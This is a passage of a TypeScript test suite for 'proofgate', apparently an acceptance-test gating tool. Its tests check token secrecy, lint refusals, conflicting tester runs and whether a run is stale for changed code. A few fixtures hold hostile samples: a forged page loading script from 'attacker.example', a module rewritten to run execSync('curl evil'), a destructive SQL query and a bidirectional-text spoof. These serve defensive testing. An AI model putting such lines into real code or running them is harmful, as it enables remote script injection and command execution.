      // the page served, the run file, a later log line or the result printed when serve stops.
      expect(token).toMatch(/^[\w-]{43}$/);
      expect(page.url()).toBe(base);
      const served = await call(base);
      expect(served.status).toBe(200);
      expect(served.text).not.toContain(token);
      expect(readFileSync(file, 'utf8')).not.toContain(token);

      // A page opened at the address without its key (copied short, another browser) saves nothing, and says so.
      const bare = await (await browser.newContext()).newPage();
      await bare.goto(base);
      await bare.waitForSelector('[data-notice="no_key"]');
      await bare.fill('#tester-name', 'Bob Test');
      await bare.click('#start');
      await bare.waitForSelector('#status[data-state="local-only"]');
      expect(readdirSync(join(dir, UAT, 'results', ID))).toEqual([`${mine.runId}.json`]);
    } finally {
      await browser.close();
      child.kill('SIGTERM');
      await exited(child);
    }
    expect(out).toContain(`stopped serving ${base}`);
    expect(log + out).not.toContain(token);
  });
});

describe('#219 the job summary keeps what decides: a section past GitHub’s 1 MiB limit leaves out only itself', () => {
  it('#219 a run whose notes fill the summary: the self-acceptance warning and the reason a tester is refused stay', async () => {
    // The change's own recipe: 200 more expectations, each failed with a 4,000-character note of `<` (4 bytes each on the page).
    const spec = structuredClone(EXAMPLE);
    for (let i = 0; i < 10; i++)
      spec.steps.push({
        id: `X${i}`,
        where: `Screen ${i}`,
        do: ['Look at it.'],
        expect: Array.from({ length: 20 }, (_, j) => ({ id: `X${i}_${j}`, text: `Row ${j} shows its total.` })),
        labels: [`Screen ${i}`],
      });
    const dir = emptyRepo('proofgate-uat-big-summary-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, '_bmad'));
    writeFileSync(join(dir, '_bmad/config.yaml'), 'uat:\n  mode: gate\n');
    writeSpec(dir, spec);
    commitAll(dir, 'base');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    const extra = spec.steps.slice(3).flatMap((s: any) => s.expect.map((e: any) => e.id as string));
    const run = makeRun(spec, { ...ALL_PASS, ...Object.fromEntries(extra.map((id: string) => [id, 'fail'])) });
    for (const a of run.answers) if (a.status === 'fail') a.note = '<'.repeat(4000);
    writeJson(runFile(dir), run);
    writeJson(triageFile(dir), triage(extra.map((expect: string) => ({ expect, class: 'product', decision: 'fix' }))));
    commitAll(dir, 'the pull request, its acceptance run played by its author');
    const event = { pull_request: { number: 7, base: { sha: base }, head: { sha: git(dir, 'rev-parse', 'HEAD').trim() } } };
    const kept = (summary: string) => {
      expect(Buffer.byteLength(summary)).toBeLessThan(1024 * 1024);
      expect(summary).toMatch(/section\(s\) left out to stay under GitHub's 1 MiB summary limit/);
    };

    const unnamed = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect(unnamed.outputs.verdict).toBe('passed');
    kept(unnamed.summary);
    expect(unnamed.summary).toContain("forbid-tester names no one, so the change's author may accept their own work");

    const named = await actionCase('uat-gate.js', dir, { id: ID, 'forbid-tester': 'ana.test' }, { event, env: ENV_CANARIES });
    expect(named.outputs.verdict).toBe('failed');
    kept(named.summary);
    expect(named.summary).toMatch(/\*\*Still owed\*\*[\s\S]*who may not accept their own work/);
  });
});

describe("#351 uat-gate: an artifact name built from package.json's version, the change's to write", () => {
  it('#351 a version holding a / names the pages artifact with a - in its place: the pages are attached, not refused', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "2.0/rc"}');
    writeSpec(dir, ownRecipe('pay-2', '2.0/rc'));
    writeSpec(dir, ownRecipe('ship-2', '2.0/rc'));
    const artifacts = await artifactServer();
    try {
      const r = await actionCase(
        'uat-gate.js',
        dir,
        { 'from-package-version': 'true', 'build-page': 'true', mode: 'gate' },
        { env: { ...ENV_CANARIES, ...artifacts.env } },
      );
      expect(r.outputs.verdict).toBe('awaiting');
      expect(r.commands.at(-1)).toMatch(/^::error::uat gate version 2\.0\/rc: awaiting$/);
      expect(r.stdout).toContain('artifact proofgate-uat-2.0-rc uploaded (2 file(s)');
      expect([...(artifacts.artifacts().get('proofgate-uat-2.0-rc')?.keys() ?? [])].sort()).toEqual(['uat-pay-2.html', 'uat-ship-2.html']);
      expectNoCanary(sinks(r, [dir]));
    } finally {
      await artifacts.close();
    }
  });
});

describe('#229 uat-gate: the page handed to the tester is the page proofgate built, and nothing else', () => {
  it('#229 a page the pull request committed in the pages folder (a recipe that fails lint, any other file) is not uploaded with the built one', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    // A second recipe of the version that does not lint (markup in its title): it gets no page...
    const pay = ownRecipe('pay-1.0.0', '1.0.0');
    pay.title = 'Pay <b>now</b>';
    writeSpec(dir, pay);
    // ...but the change commits one under its name: script from another site, an export of all passes whatever is clicked.
    const forged = '<!doctype html><script src="https://attacker.example/uat.js"></script>';
    mkdirSync(join(dir, UAT, 'pages', 'more'), { recursive: true });
    writeFileSync(join(dir, UAT, 'pages', 'uat-pay-1.0.0.html'), forged);
    writeFileSync(join(dir, UAT, 'pages', 'start-here.html'), forged);
    writeFileSync(join(dir, UAT, 'pages', 'more', `uat-${ID}.html`), forged);
    const artifacts = await artifactServer();
    try {
      const r = await actionCase(
        'uat-gate.js',
        dir,
        { 'from-package-version': 'true', 'build-page': 'true', mode: 'gate' },
        { env: artifacts.env },
      );
      expect(JSON.parse(r.outputs.recipes!)).toEqual([
        { id: ID, verdict: 'awaiting', 'exit-code': 2, page: join(dir, UAT, `pages/uat-${ID}.html`) },
        { id: 'pay-1.0.0', verdict: 'lint-failed', 'exit-code': 1, page: null },
      ]);
      expect(r.stdout).toContain('artifact proofgate-uat-1.0.0 uploaded (1 file(s)');
      const uploaded = artifacts.artifacts().get('proofgate-uat-1.0.0');
      expect([...(uploaded?.keys() ?? [])]).toEqual([`uat-${ID}.html`]);
      expect(uploaded?.get(`uat-${ID}.html`)?.toString('utf8')).toBe(readFileSync(join(dir, UAT, `pages/uat-${ID}.html`), 'utf8'));
      expect(r.summary).toContain("The tester's page is `uat-example-1.0.0.html` in the artifact this step uploaded");
      expect(r.summary).toContain(
        `This run holds the tester's page as the artifact \`proofgate-uat-1.0.0\`, id ${artifacts.ids().get('proofgate-uat-1.0.0')}`,
      );
    } finally {
      await artifacts.close();
    }
  });
});

// #262: `uat serve` is the third way a page reaches the tester, beside `uat build` and the action's build-page.
// It read the spec with the schema only, so a recipe lint refuses (the starter's texts, a writing witness query,
// markup, a bidirectional control) was served and played, at start or after an edit while serving.
describe('#262 uat serve hands over no page of a recipe that does not lint', () => {
  const failing = (edit: (spec: any) => void) => {
    const spec = structuredClone(EXAMPLE);
    edit(spec);
    return spec;
  };
  it('adversarial 262 at start: a witness query that writes and a bidirectional control in an expectation; serve stops before listening, naming each', async () => {
    const dir = project(
      failing((s) => {
        s.witnesses[0].check.query = 'DELETE FROM bookings';
        s.steps[0].expect[0].text = 'A page titled \u202egnikoob ruoY\u202c opens';
      }),
    );
    const started = await serve(dir, 0).then(
      async (s) => {
        s.child.kill('SIGTERM');
        await exited(s.child);
        return `served at ${s.base}`;
      },
      (err: Error) => err.message,
    );
    expect(started).toMatch(/^serve exited 1: /);
    expect(started).toContain('example-1.0.0 does not lint (2 error(s)): no page is served; run `proofgate uat lint example-1.0.0`');
    expect(started).toContain('- /witnesses/0/check/query');
    expect(started).toContain('- /steps/0/expect/0/text: holds a bidirectional control (U+202E)');
  });

  it('adversarial 262 after an edit while serving: the page is refused (409, no page), and a run of the edited recipe is not written', async () => {
    const dir = project();
    const { child, base, token } = await serve(dir, 0);
    try {
      expect((await call(base)).status).toBe(200);
      const edited = failing((s) => (s.title = 'Book a table <b>now</b>'));
      writeSpec(dir, edited);
      const page = await call(base);
      expect(page.status).toBe(409);
      expect(page.headers['content-type']).toBe('text/plain; charset=utf-8');
      expect(page.text).toContain('example-1.0.0 does not lint (1 error(s)): no page is served');
      expect(page.text).toContain('- /title: contains markup (<b>)');
      expect(page.text).not.toContain('uat-data');
      const body = JSON.stringify(makeRun(edited, ALL_PASS));
      const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
      const post = await call(`${base}api/run`, { method: 'POST', headers, body });
      expect([post.status, post.json?.saved, post.json?.reason]).toEqual([409, false, 'lint']);
      expect(existsSync(runFile(dir))).toBe(false);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
  });
});

describe('#272 two testers playing the same revision at once who disagree', () => {
  const BEA = 'run-20261129T100500Z-bbbb';
  /** Ana (10:00–10:30) fails E1; Bea starts later (10:05) and passes everything before Ana finishes (10:20). */
  function overlapping(anaFinished = '2026-11-29T10:30:00.000Z', beaStarted = '2026-11-29T10:05:00.000Z'): string {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { updatedAt: anaFinished, finishedAt: anaFinished }));
    const bea = { runId: BEA, tester: 'Bea Test', startedAt: beaStarted };
    writeJson(runFile(dir, BEA), makeRun(EXAMPLE, ALL_PASS, bea));
    writeJson(triageFile(dir), triage([], [WRITE_OK], BEA));
    return dir;
  }

  it('#272 the later start passes everything while the other run, finished after it began, failed E1: failed, naming both', async () => {
    const dir = overlapping();
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- run ${RUN_ID} by "Ana Test" (2026-11-29T10:00:00.000Z to 2026-11-29T10:30:00.000Z) played this revision while the latest run ${BEA} did, and disagrees: E1 failed there; play a new run starting 10 min or more after both finished`,
    ]);
  });

  it('#272 a run that finished before the latest started (by the clock margin of row 475) is replayed over, as before', async () => {
    const dir = overlapping('2026-11-29T10:04:00.000Z', '2026-11-29T10:14:00.000Z');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
  });
});

describe('adversarial 368 a second witness the latest run does not answer', () => {
  const BEA = 'run-20261129T100500Z-bbbb';
  const bea = { runId: BEA, tester: 'Bea Test', startedAt: '2026-11-29T10:05:00.000Z' };

  it('adversarial 368 Ana failed E1 and never finished; Bea, started while Ana played, passed everything: failed, naming the unfinished run', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { updatedAt: '2026-11-29T10:10:00.000Z', finishedAt: null }));
    writeJson(runFile(dir, BEA), makeRun(EXAMPLE, ALL_PASS, bea));
    writeJson(triageFile(dir), triage([], [WRITE_OK], BEA));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- run ${RUN_ID} by "Ana Test" (2026-11-29T10:00:00.000Z to unfinished) played this revision while the latest run ${BEA} did, and disagrees: E1 failed there; finish or remove it, then play a new run starting 10 min or more after both finished`,
    ]);
  });

  it('adversarial 368 Ana failed E1; Bea, at the same time, skipped E1 with an accepted risk: failed, a skip does not answer a failure', async () => {
    const dir = project();
    const finished = '2026-11-29T10:30:00.000Z';
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { updatedAt: finished, finishedAt: finished }));
    writeJson(runFile(dir, BEA), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'skip' }, bea));
    const accepted = { expect: 'E1', class: 'data', decision: 'accept-risk', owner: 'Bea Owner', note: 'The witness row was gone.' };
    writeJson(triageFile(dir), triage([accepted], [WRITE_OK], BEA));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout).join('\n')).toContain(
      'and disagrees: E1 failed there; play a new run starting 10 min or more after both finished',
    );
  });
});

describe('#273 a risk accepted with no word on which risk or why', () => {
  it('#273 accept-risk by a named owner with no note, or a note of no letter: the triage is refused (exit 3), the action fails closed', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'blocked', E5: 'fail' }));
    for (const note of [undefined, ' ', '\u200b', '-']) {
      const items = [
        { expect: 'E4', class: 'data', decision: 'accept-risk', owner: 'Bea Owner', ...(note === undefined ? {} : { note }) },
        { expect: 'E5', class: 'product', decision: 'accept-risk', owner: 'Bea Owner' },
      ];
      writeJson(triageFile(dir), triage(items));
      const r = await cliCase(dir, ['uat', 'gate', ID]);
      expect(r.code, JSON.stringify(note)).toBe(3);
      expect(r.stderr).toContain('/items/0: accept-risk needs a `note` saying which risk is accepted and why');
      expect(r.stderr).toContain('/items/1: accept-risk needs a `note` saying which risk is accepted and why');
    }
    const a = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' }, { env: ENV_CANARIES });
    expect(a.outputs).toMatchObject({ verdict: 'error', 'exit-code': '3' });
    // Said which risk and why, it settles them.
    const items = ['E4', 'E5'].map((e) => ({
      expect: e,
      class: 'data',
      decision: 'accept-risk',
      owner: 'Bea Owner',
      note: 'the card network is down on staging',
    }));
    writeJson(triageFile(dir), triage(items));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
  });
});

describe('#334 a results folder past what the gate can hold', () => {
  /** The example passing under a run id that sorts after every other file, started after every other run. */
  const latestPass = (dir: string) => {
    const id = 'run-zzzz';
    writeJson(runFile(dir, id), makeRun(EXAMPLE, ALL_PASS, { runId: id, startedAt: '2026-11-29T10:00:01.000Z' }));
    writeJson(triageFile(dir), triage([], [WRITE_OK], id));
  };
  it('#334 120 runs of 1 MiB each (stale answers behind a passing latest run): one line, never passed, memory bounded', async () => {
    const dir = project();
    const note = 'n'.repeat(3900);
    for (let i = 0; i < 120; i++) {
      const runId = `run-${String(i).padStart(4, '0')}`;
      const answers = Array.from({ length: 250 }, (_, j) => ({ expect: `X${j}`, status: 'pass', note }));
      writeJson(runFile(dir, runId), makeRun(EXAMPLE, {}, { runId, specSha256: i.toString(16).padStart(64, '0'), answers }));
    }
    latestPass(dir);
    // Every run held at once took twice its bytes: 120 MiB of runs stopped node past its heap, several lines of a crash.
    const r = await cliAsync(dir, ['uat', 'gate', ID], { NODE_OPTIONS: '--max-old-space-size=128' });
    expect(r.stderr).not.toContain('heap');
    expect(r.code).toBe(1);
    const lines = reasons(r.stdout).filter((l) => l.includes('not read'));
    expect(lines).toEqual([
      expect.stringMatching(
        /^- _bmad-output\/uat\/results\/example-1\.0\.0 holds more runs than the gate reads \(32 MiB, 2000 files\): \d+ file\(s\) not read, the latest among them perhaps; not a pass: take out of it what is no run of this recipe$/,
      ),
    ]);
    const a = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' }, { env: ENV_CANARIES });
    expect(a.outputs.verdict).toBe('failed');
  });
  it('#334 2,500 files that are no run: one line for what was not read, not a line each', async () => {
    const dir = project();
    mkdirSync(join(dir, UAT, 'results', ID), { recursive: true });
    for (let i = 0; i < 2500; i++) writeFileSync(join(dir, UAT, 'results', ID, `junk-${String(i).padStart(4, '0')}.json`), '');
    latestPass(dir);
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout).length).toBeLessThanOrEqual(2001);
    expect(reasons(r.stdout).filter((l) => l.includes('501 file(s) not read'))).toHaveLength(1);
  });
});

describe('#438 uat read passing where uat gate fails', () => {
  it('#438 the newest run file unusable (a key written twice) holding a failure, or more files than are read: uat read exits 1, as uat gate fails', async () => {
    const dir = project();
    writeJson(runFile(dir, 'run-old'), makeRun(EXAMPLE, ALL_PASS, { runId: 'run-old', startedAt: '2026-11-29T10:00:00.000Z' }));
    writeJson(triageFile(dir), triage([], [WRITE_OK], 'run-old'));
    const failed = JSON.stringify(
      makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { runId: 'run-new', startedAt: '2026-11-29T12:00:00.000Z' }),
    );
    writeFileSync(runFile(dir, 'run-new'), failed.replace('{', '{"runId":"run-new",'));
    const read = await cliCase(dir, ['uat', 'read', ID]);
    expect([read.code, read.stdout]).toEqual([1, expect.stringContaining('run-new.json is not a usable run')]);
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(1);
    rmSync(runFile(dir, 'run-new'));
    expect((await cliCase(dir, ['uat', 'read', ID])).code).toBe(0);
    for (let i = 0; i < 2100; i++) writeFileSync(join(dir, UAT, 'results', ID, `junk-${String(i).padStart(4, '0')}.json`), '');
    const over = await cliCase(dir, ['uat', 'read', ID]);
    expect([over.code, over.stdout]).toEqual([1, expect.stringContaining('file(s) not read')]);
  });
});

describe('#281 an unfinished run the base holds, finished by the change as someone else played it', () => {
  const OPEN = 'run-20261130T100000Z-open';
  const times = {
    runId: OPEN,
    startedAt: '2026-11-30T10:00:00.000Z',
    updatedAt: '2026-11-30T10:10:00.000Z',
    finishedAt: null,
    revision: 4,
  };
  /** The base: an older passing run, then Ana's run still open with E1 failed and E2 passed; the pull request is `change`. */
  function open(
    change: (run: Record<string, any>) => void,
    given: Record<string, string> = { E1: 'fail', E2: 'pass' },
  ): { dir: string; base: string } {
    const dir = emptyRepo('proofgate-uat-open-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    writeJson(runFile(dir, OPEN), makeRun(EXAMPLE, given, times));
    commitAll(dir, 'base: Ana is playing');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    const run = makeRun(
      EXAMPLE,
      { ...ALL_PASS, ...given },
      { ...times, updatedAt: '2026-11-30T10:30:00.000Z', finishedAt: '2026-11-30T10:30:00.000Z', revision: 9 },
    );
    change(run);
    writeJson(runFile(dir, OPEN), run);
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-30T11:00:00Z' }], OPEN));
    commitAll(dir, 'the pull request');
    return { dir, base };
  }

  it('#281 the change flips an answer given, names another tester, moves the start or answers another revision: the edit is named, the base copy (unfinished) is gated', async () => {
    const edits: [string, (run: Record<string, any>) => void][] = [
      ['an answer flipped', (run) => Object.assign(run.answers[0], { status: 'pass', note: '' })],
      ['a note rewritten', (run) => Object.assign(run.answers[0], { note: 'fine after all' })],
      ['another tester', (run) => Object.assign(run, { tester: 'Bea Other' })],
      ['another start', (run) => Object.assign(run, { startedAt: '2026-11-30T09:00:00.000Z' })],
      ['an older revision', (run) => Object.assign(run, { revision: 3 })],
    ];
    for (const [what, edit] of edits) {
      const { dir, base } = open(edit);
      expect((await cliCase(dir, ['uat', 'gate', ID])).stdout, what).not.toContain(`${OPEN}.json is not a usable run`);
      const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
      expect(r.code, what).not.toBe(0);
      expect(r.stdout, what).toContain(`${OPEN}.json is not a usable run: it changes what the unfinished run the base`);
    }
  });

  it('#281 the change goes on with the run as its tester did (answers added, finished): the run counts', async () => {
    const { dir, base } = open(() => undefined, { E1: 'pass', E2: 'pass' });
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.stdout).not.toContain('is not a usable run');
    expect(r.code, r.stdout).toBe(0);
  });
});

describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
  const head = (dir: string) => git(dir, 'rev-parse', 'HEAD').trim();
  const codeOf = (dir: string, ref = 'HEAD') => ({
    commit: git(dir, 'rev-parse', `${ref}^{commit}`).trim(),
    tree: git(dir, 'rev-parse', `${ref}^{tree}`).trim(),
    outside: outsideOf(dir, ref),
  });
  /** The tree of `ref` without the uat folder's records, made by git in an index of the test's own. */
  const outsideOf = (dir: string, ref: string) => {
    const env = { ...process.env, GIT_INDEX_FILE: join(mkdtempSync(join(tmpdir(), 'proofgate-index-')), 'index') };
    const run = (...args: string[]) => execFileSync('git', args, { cwd: dir, env, encoding: 'utf8' }).trim();
    run('read-tree', ref);
    // The uat folder's records (specs, pages, runs, triage) only: any other file there is code.
    const records = ['specs/*.json', 'pages/uat-*.html', 'results/*/*.json', 'triage/*.json'].map((p) => `:(glob,top)${UAT}/${p}`);
    run('rm', '-r', '-q', '-f', '--cached', '--ignore-unmatch', '--', ...records);
    return run('write-tree');
  };
  /** The code a built or served page carries into its runs. */
  const pageCode = (html: string): { commit: string; tree: string; outside?: string } | undefined => {
    const m = /"code":(\{"commit":"[0-9a-f]+","tree":"[0-9a-f]+"(?:,"outside":"[0-9a-f]+")?\})/.exec(html);
    return m ? JSON.parse(m[1]!) : undefined;
  };
  const bound = (code: unknown, over: Record<string, unknown> = {}) =>
    makeRun(EXAMPLE, ALL_PASS, { schema: 'bmad-plus/uat-run/2', code, ...over });
  /**
   * The code at `played` (src/app.ts), a passing run of it committed after it: the run's commit is not the head, the code is.
   * Built once and copied (copyOf: its dates are fixed, so a copy is the same repository) for its dozen git processes.
   */
  let tested: string | undefined;
  function played(): { dir: string; tested: string } {
    const dir = copyOf('played', buildPlayed, 'proofgate-uat-code-');
    tested ??= git(dir, 'rev-parse', 'HEAD~1').trim();
    return { dir, tested };
  }
  function buildPlayed(): string {
    const dir = emptyRepo('proofgate-uat-code-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, 'src'));
    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a + b;\n');
    writeSpec(dir, EXAMPLE);
    commitAll(dir, 'the code the tester runs');
    writeJson(runFile(dir), bound(codeOf(dir)));
    writeJson(triageFile(dir), triage([]));
    commitAll(dir, 'acceptance run and triage');
    return dir;
  }

  it('#387 code kept in the uat folder (a module the app loads, a link target) changed after the run: stale; a new run, triage or page is no change of code', async () => {
    const { dir } = played();
    mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => 'booking confirmed';\n");
    writeFileSync(join(dir, 'src/app.js'), `module.exports = require('../${UAT}/lib/impl.js');\n`);
    commitAll(dir, 'the app loads a module kept in the uat folder');
    writeJson(runFile(dir), bound(codeOf(dir)));
    commitAll(dir, 'a run of that code');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
    expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
    commitAll(dir, 'the module rewritten');
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(3);
    expect(reasons(r.stdout)[0]).toMatch(new RegExp(`1 file\\(s\\) changed since \\("${UAT.replace(/[./]/g, '\\$&')}/lib/impl\\.js"\\)`));
  });

  it('#293 a run finished against an older commit is stale for a newer head (CLI and action), naming both commits and the file', async () => {
    const { dir, tested } = played();
    // Committing the run and its triage changes nothing outside the uat folder: the run is of this code.
    expect((await cliCase(dir, ['uat', 'gate', ID])).stdout.split('\n')[0]).toBe('example-1.0.0: passed (run by Ana Test)');
    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a - b;\n');
    commitAll(dir, 'a later change to the code');
    const now = head(dir);
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(3);
    expect(r.stdout.split('\n')[0]).toBe('example-1.0.0: stale (run by Ana Test)');
    expect(reasons(r.stdout)[0]).toBe(
      `- the latest run (${RUN_ID}): the run tested commit ${tested.slice(0, 12)}, but the code gated is ${now.slice(0, 12)}: 1 file(s) changed since ("src/app.ts"); play the recipe again on a page served or built at ${now.slice(0, 12)}`,
    );
    // --head names the code gated: the commit the run was committed at passes; the release gate holds too.
    expect((await cliCase(dir, ['uat', 'gate', ID, '--head', 'HEAD~1'])).code).toBe(0);
    expect((await cliCase(dir, ['uat', 'release-gate'])).code).toBe(3);
    expect((await cliCase(dir, ['uat', 'release-gate', '--head', 'HEAD~1'])).code).toBe(0);
    // In a pull request the code gated is the pull request's head, read from the event.
    const event = { pull_request: { number: 7, base: { sha: tested }, head: { sha: now } } };
    const a = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' }, { event, env: ENV_CANARIES });
    expect(a.outputs).toMatchObject({ verdict: 'stale', 'exit-code': '3' });
    expect(a.summary).toContain('src/app.ts');
  });

  it('#294 a run of format 1 (no commit recorded) is read but passes for no code in a repository; a format that lies about its code is no run', async () => {
    const { dir } = played();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)[0]]).toEqual([
      3,
      `- the latest run (${RUN_ID}) records no commit (format bmad-plus/uat-run/1, from before runs were bound to the code they tested): it is kept and read, but it passes for no code; play the recipe again on a page served or built at ${head(dir).slice(0, 12)}`,
    ]);
    expect((await cliCase(dir, ['uat', 'read', ID])).stdout).toContain('Ana Test');
    // Outside a repository there is no commit to bind to: the old format is gated as before.
    const plain = project();
    passing(plain);
    expect((await cliCase(plain, ['uat', 'gate', ID])).code).toBe(0);
    writeJson(runFile(dir), bound(undefined));
    expect((await cliCase(dir, ['uat', 'gate', ID])).stdout).toContain('/code: format 2 records the code the run tested');
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { code: codeOf(dir) }));
    expect((await cliCase(dir, ['uat', 'gate', ID])).stdout).toContain('/code: format 1 records no code');
  });

  it("#295 uat serve records the served checkout's HEAD: a run claiming another commit, or a run the checkout moved under, is not saved; uat build records its commit", async () => {
    const { dir, tested } = played();
    const { child, base, token } = await serve(dir, 0);
    const post = async (run: unknown) => {
      const body = JSON.stringify(savedNow(run));
      const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
      return (await call(`${base}api/run`, { method: 'POST', headers, body })).json as Record<string, unknown>;
    };
    try {
      const page = (await call(base, { headers: { 'x-proofgate-token': token } })).text;
      const served = codeOf(dir);
      expect(page).toContain(served.commit);
      // The page's field is the server's to check: another commit (the one played before) is refused.
      const forged = await post(bound({ commit: tested, tree: codeOf(dir, tested).tree }, { runId: 'run-forged', finishedAt: null }));
      expect(forged).toMatchObject({ saved: false, reason: 'code' });
      expect(await post(bound(served, { runId: 'run-now', finishedAt: null, revision: 1 }))).toMatchObject({ saved: true });
      writeFileSync(join(dir, 'src/app.ts'), 'export const total = 0;\n');
      commitAll(dir, 'the code moves while the page is open');
      const moved = await post(bound(served, { runId: 'run-now', revision: 2 }));
      expect(moved).toMatchObject({ saved: false, reason: 'code' });
      expect(String(moved.message)).toContain(`this checkout is now at ${head(dir).slice(0, 12)}`);
      expect(JSON.parse(readFileSync(runFile(dir, 'run-now'), 'utf8')).finishedAt).toBe(null);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
    const built = await cliCase(dir, ['uat', 'build', ID]);
    expect(built.stdout).toContain(`its runs record commit ${head(dir).slice(0, 12)}`);
    expect(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8')).toContain(head(dir));
  });

  it('#408 a tester whose clock is 2 hours behind: uat serve refuses each save of her run (it would seem played before a run it overlapped), naming the clock; a save stamped by a clock right to 10 minutes is taken', async () => {
    const { dir } = played();
    const { child, base, token } = await serve(dir, 0);
    let log = '';
    child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    const post = async (run: unknown) => {
      const body = JSON.stringify(run);
      const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
      const r = await call(`${base}api/run`, { method: 'POST', headers, body });
      return { status: r.status, json: r.json };
    };
    const ago = (min: number) => new Date(Date.now() - min * 60_000).toISOString();
    try {
      const served = codeOf(dir);
      const failed = { ...ALL_PASS, E1: 'fail' };
      const behind = ago(120);
      const run = makeRun(EXAMPLE, failed, {
        schema: 'bmad-plus/uat-run/2',
        code: served,
        runId: 'run-ana',
        startedAt: behind,
        updatedAt: behind,
        finishedAt: null,
        revision: 1,
      });
      const refused = await post(run);
      expect(refused).toEqual({
        status: 400,
        json: {
          saved: false,
          reason: 'invalid',
          errors: [expect.stringMatching(/^\/updatedAt: ".+" is in the past \(more than 10 min behind this clock\).*set it right/)],
        },
      });
      // Finish stamped by the same clock is refused as well: the run is never written, dated back.
      expect((await post({ ...run, finishedAt: behind, revision: 2 })).json).toMatchObject({ saved: false, reason: 'invalid' });
      expect(existsSync(runFile(dir, 'run-ana'))).toBe(false);
      expect(log).toContain('refused run run-ana revision 1: /updatedAt:');
      // A clock a few minutes behind is within the tolerance, as one ahead is.
      const right = await post({ ...run, startedAt: ago(5), updatedAt: ago(5), revision: 3 });
      expect(right).toMatchObject({ status: 200, json: { saved: true, revision: 3 } });
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
  });

  it("#409 a file at a record's path that is no record (the app's flags in specs/ through a link, a config in results/ it requires, a valid spec a link leads to) changed after the run: stale; a real page, run or triage is no code", async () => {
    const { dir } = played();
    const at = (path: string) => join(dir, UAT, path);
    mkdirSync(at('results/x'), { recursive: true });
    writeJson(at('specs/flags.json'), { checkoutEnabled: true });
    writeJson(at('results/x/cfg.json'), { retries: 3 });
    writeJson(at('specs/shop.json'), { ...EXAMPLE, id: 'shop', title: 'The shop' });
    symlinkSync(`../${UAT}/specs/flags.json`, join(dir, 'src/flags.json'));
    symlinkSync(`../${UAT}/specs`, join(dir, 'src/recipes'));
    writeFileSync(
      join(dir, 'src/app.js'),
      `module.exports = [require('./flags.json'), require('../${UAT}/results/x/cfg.json'), require('./recipes/shop.json')];\n`,
    );
    commitAll(dir, 'the app loads flags, a config and a recipe kept in the uat folder');
    writeJson(runFile(dir), bound(codeOf(dir)));
    commitAll(dir, 'a run of that code');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    // Records written after the run (a page built, a new revision of the run, its triage) change no code.
    expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
    writeJson(runFile(dir), { ...JSON.parse(readFileSync(runFile(dir), 'utf8')), revision: 13 });
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-29T11:30:00Z' }]));
    commitAll(dir, 'acceptance records');
